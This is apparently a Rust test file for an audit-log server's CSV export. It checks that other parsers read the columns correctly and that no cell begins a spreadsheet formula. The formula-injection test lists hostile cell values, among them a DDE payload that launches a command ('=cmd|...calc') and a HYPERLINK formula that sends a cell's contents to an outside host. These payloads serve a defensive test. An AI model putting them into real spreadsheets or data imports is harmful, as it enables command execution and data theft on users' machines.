//! Tables: what two other readers of CSV make of them, and what a spreadsheet must not.

use std::io::Write;
use std::process::{Command, Stdio};

use annals_server::Options;
use serde_json::Value;

use crate::searching::varied;
use crate::support::Server;

/// The fixed columns, as documented.
const COLUMNS: [&str; 30] = [
    "event_id",
    "received_at",
    "timestamp",
    "kind",
    "source",
    "tenant",
    "actor_type",
    "actor_id",
    "actor_name",
    "on_behalf_of",
    "session",
    "grant",
    "run",
    "resource_type",
    "resource_id",
    "resource_name",
    "outcome",
    "attempt_id",
    "request_id",
    "ip",
    "user_agent",
    "trace_id",
    "severity",
    "subject",
    "schema_version",
    "id",
    "changes",
    "payload",
    "prev_hash",
    "hash",
];

/// What stands in a column for an event, decided from its JSON.
fn expected(column: &str, event: &Value) -> Option<String> {
    let pointer = match column {
        "received_at" => return None,
        "actor_type" => "/actor/type",
        "actor_id" => "/actor/id",
        "actor_name" => "/actor/name",
        "on_behalf_of" => "/actor/on_behalf_of",
        "resource_type" => "/resource/type",
        "resource_id" => "/resource/id",
        "resource_name" => "/resource/name",
        "request_id" => "/request/id",
        "ip" => "/request/ip",
        "user_agent" => "/request/user_agent",
        member => &format!("/{member}"),
    };
    let text = match event.pointer(pointer) {
        None => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(value) if matches!(column, "payload" | "changes") => {
            // Compared as values: what stands there is the sealed text.
            return Some(value.to_string());
        }
        Some(value) => value.to_string(),
    };
    let is_formula = text.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    ]);
    Some(if is_formula { format!("'{text}") } else { text })
}

fn check(header: &[String], rows: &[Vec<String>], events: &[Value]) {
    assert_eq!(header, COLUMNS);
    assert_eq!(rows.len(), events.len());
    for (row, event) in rows.iter().zip(events) {
        assert_eq!(row.len(), COLUMNS.len());
        for (cell, column) in row.iter().zip(COLUMNS) {
            match expected(column, event) {
                None => assert_eq!(cell.len(), 32, "{column}: {cell}"),
                Some(json) if matches!(column, "payload" | "changes") && !json.is_empty() => {
                    let value: Value = serde_json::from_str(cell).unwrap();
                    assert_eq!(value.to_string(), json, "{column}");
                }
                Some(text) => assert_eq!(*cell, text, "{column} of {event}"),
            }
        }
        if let Some(received_at) = event.get("received_at") {
            assert_eq!(row[1], received_at.as_str().unwrap());
        }
    }
}

fn read_by_the_crate(table: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(table);
    let strings = |record: &csv::StringRecord| record.iter().map(str::to_owned).collect::<Vec<_>>();
    let header = strings(reader.headers().unwrap());
    let rows = reader.records().map(|record| strings(&record.unwrap())).collect();
    (header, rows)
}

fn read_by_python(table: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    const SCRIPT: &str = "import csv, io, json, sys\n\
        csv.field_size_limit(1 << 30)\n\
        text = io.TextIOWrapper(sys.stdin.buffer, encoding='utf-8', newline='')\n\
        print(json.dumps(list(csv.reader(text, strict=True))))";
    let mut python = Command::new("python3")
        .args(["-c", SCRIPT])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3 is needed: apt-get install python3");
    python.stdin.take().unwrap().write_all(table).unwrap();
    let output = python.wait_with_output().unwrap();
    assert!(output.status.success());
    let mut rows: Vec<Vec<String>> = serde_json::from_slice(&output.stdout).unwrap();
    let header = rows.remove(0);
    (header, rows)
}

/// Red when: a quote is not doubled, a column is moved, or a cell is not decoded.
#[test]
fn other_readers_find_the_events_in_a_table() {
    let (server, all) = varied(300, Options::default());
    let reply = server.get("/events?format=csv&limit=100000");
    assert_eq!(
        reply.header("content-type"),
        Some("text/csv; charset=utf-8; header=present")
    );
    for read in [read_by_the_crate, read_by_python] {
        let (header, rows) = read(&reply.body);
        check(&header, &rows, &all);
    }
}

/// Red when: `is_formula` is false.
#[test]
fn no_cell_begins_a_formula() {
    let server = Server::start();
    let mean = [
        "=1+1",
        "+1",
        "-1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        "\u{ff1d}1+1",
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
        "a,=1",
        "\",=1",
    ];
    for source in mean {
        let body = serde_json::json!({"kind": "other", "source": source, "timestamp": source, "payload": {"=1": "=1"}});
        assert_eq!(server.post("/events", body.to_string()).status, 201);
    }
    let table = server.get("/events?format=csv").body;
    let (_, rows) = read_by_the_crate(&table);
    assert_eq!(read_by_python(&table).1, rows);
    for (row, source) in rows.iter().zip(mean) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{ff1d}']),
                "{cell}"
            );
        }
        assert_eq!(row[4].strip_prefix('\'').unwrap_or(&row[4]), source);
    }
}

#[test]
fn an_empty_table_has_its_header_and_lines_end_as_they_should() {
    let server = Server::start();
    let header = format!("{}\r\n", COLUMNS.join(","));
    assert_eq!(server.get("/events?format=csv").text(), header);
    server.append("other", "s");
    let table = server.get("/events?format=csv&order=newest").text();
    assert!(table.starts_with(&header) && table.ends_with("\r\n"));
    assert_eq!(table.matches('\n').count(), 2);
}
